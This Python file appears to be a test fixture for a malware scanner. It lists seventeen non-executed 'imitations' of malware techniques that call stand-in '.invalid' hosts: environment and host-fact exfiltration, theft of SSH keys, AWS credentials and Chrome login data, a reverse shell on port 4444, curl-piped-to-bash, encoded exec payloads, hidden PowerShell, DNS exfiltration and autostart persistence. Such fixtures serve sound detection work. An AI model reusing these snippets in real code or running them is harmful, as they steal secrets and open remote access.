"""Imitations of the typical techniques of malware: written by us, harmless, read by the scanner and never run.

Hosts lie below `.invalid`, which never resolves; commands would print a word; what is encoded prints one, too.
Each is a program text that does its thing when it is executed, wherever it is put.
"""

from __future__ import annotations

import base64
import textwrap
import zlib
from dataclasses import dataclass

_PRINTS = b"print('imitation')"
# A token of Fernet for `print('imitation')` under the key beside it, made once: the cipher text differs every time.
_FERNET_KEY = "aW1pdGF0aW9uLWltaXRhdGlvbi1pbWl0YXRpb24hISE="


@dataclass(frozen=True, slots=True)
class Imitation:
    """One technique as a program text."""

    name: str
    source: str
    install: bool = False  # its home is `setup.py`, not the body of a package


def _imitation(name: str, source: str, *, install: bool = False) -> Imitation:
    return Imitation(name, textwrap.dedent(source[1:]), install)


IMITATIONS: tuple[Imitation, ...] = (
    _imitation(
        "environment sent",
        """
        import os
        import requests

        collected = dict(os.environ)
        requests.post("https://collect.example.invalid/env", json=collected)
        """,
    ),
    _imitation(
        "host facts sent",
        """
        import getpass
        import json
        import platform
        import socket
        import urllib.request

        def beacon():
            who = {"host": socket.gethostname(), "user": getpass.getuser(), "system": platform.platform()}
            body = json.dumps(who).encode()
            urllib.request.urlopen("https://beacon.example.invalid/hello", data=body)

        beacon()
        """,
        install=True,
    ),
    _imitation(
        "program fetched and started",
        """
        import os
        import subprocess
        import requests

        place = os.path.join(os.getenv("TEMP", "."), "helper.exe")
        answer = requests.get("https://files.example.invalid/helper.exe")
        with open(place, "wb") as file:
            file.write(answer.content)
        subprocess.Popen([place])
        """,
    ),
    _imitation(
        "encoded code executed",
        f"""
        import base64

        text = "{base64.b64encode(_PRINTS).decode()}"
        exec(base64.b64decode(text))
        """,
        install=True,
    ),
    _imitation(
        "compressed code executed",
        f"""
        import base64
        import zlib

        blob = base64.b85decode("{base64.b85encode(zlib.compress(_PRINTS * 3)).decode()}")
        exec(compile(zlib.decompress(blob).decode(), "<string>", "exec"))
        """,
    ),
    _imitation(
        "code from character codes",
        f"""
        codes = {[each ^ 7 for each in _PRINTS]}
        exec("".join(chr(code ^ 7) for code in codes))
        """,
    ),
    _imitation(
        "answer of a server executed",
        """
        import requests

        def latest():
            return requests.get("https://news.example.invalid/today").text

        exec(latest())
        """,
    ),
    _imitation(
        "deciphered code executed",
        f"""
        from cryptography.fernet import Fernet

        key = b"{_FERNET_KEY}"
        token = b"gAAAAABl-imitation-of-a-token-that-no-key-opens"
        exec(Fernet(key).decrypt(token))
        """,
        install=True,
    ),
    _imitation(
        "shell given away",
        """
        import os
        import pty
        import socket

        def serve():
            link = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            link.connect(("shell.example.invalid", 4444))
            for number in (0, 1, 2):
                os.dup2(link.fileno(), number)
            pty.spawn("/bin/sh")

        serve()
        """,
    ),
    _imitation(
        "hidden PowerShell",
        """
        import subprocess

        command = "powershell -WindowStyle Hidden -EncodedCommand cAByAGkAbgB0ACAAaABpAA=="
        subprocess.Popen(command, shell=True)
        """,
        install=True,
    ),
    _imitation(
        "script fetched and run by a shell",
        """
        import os

        os.system("curl -s https://get.example.invalid/install.sh | bash")
        """,
        install=True,
    ),
    _imitation(
        "passwords of a browser sent",
        """
        import os
        import shutil
        import sqlite3
        import requests

        profile = os.path.join(os.getenv("LOCALAPPDATA", ""), "Google\\\\Chrome\\\\User Data\\\\Default")
        shutil.copy(os.path.join(profile, "Login Data"), "copy.db")
        rows = sqlite3.connect("copy.db").execute("SELECT 1").fetchall()
        requests.post("https://collect.example.invalid/rows", json=rows)
        """,
    ),
    _imitation(
        "keys of a developer sent",
        """
        import os
        import requests

        names = ["~/.ssh/id_rsa", "~/.aws/credentials", "~/.pypirc"]
        found = {}
        for name in names:
            path = os.path.expanduser(name)
            if os.path.exists(path):
                with open(path) as file:
                    found[name] = file.read()
        requests.post("https://collect.example.invalid/keys", json=found)
        """,
    ),
    _imitation(
        "report to a chat channel",
        """
        import os
        import requests

        channel = "https://discord.com/api/webhooks/000000000000000000/imitation-imitation-imitation"
        message = {"content": "installed by " + os.environ.get("USERNAME", "?")}
        requests.post(channel, json=message)
        """,
    ),
    _imitation(
        "names sent by look-ups",
        """
        import getpass
        import socket

        label = socket.gethostname() + "." + getpass.getuser()
        socket.gethostbyname(label + ".lookup.example.invalid")
        """,
        install=True,
    ),
    _imitation(
        "started with every login",
        """
        import os
        import sys

        folder = os.path.expanduser("~/.config/autostart")
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "widget.desktop"), "w") as file:
            file.write("[Desktop Entry]\\nExec=" + sys.executable + " -c 'print(1)'\\n")
        """,
    ),
    _imitation(
        "program text written and started",
        """
        import os
        import tempfile

        file = tempfile.NamedTemporaryFile(delete=False, suffix=".py")
        file.write(b"from urllib.request import urlopen as u;exec(u('https://stage.example.invalid').read())")
        file.close()
        os.system("start pythonw " + file.name)
        """,
        install=True,
    ),
)
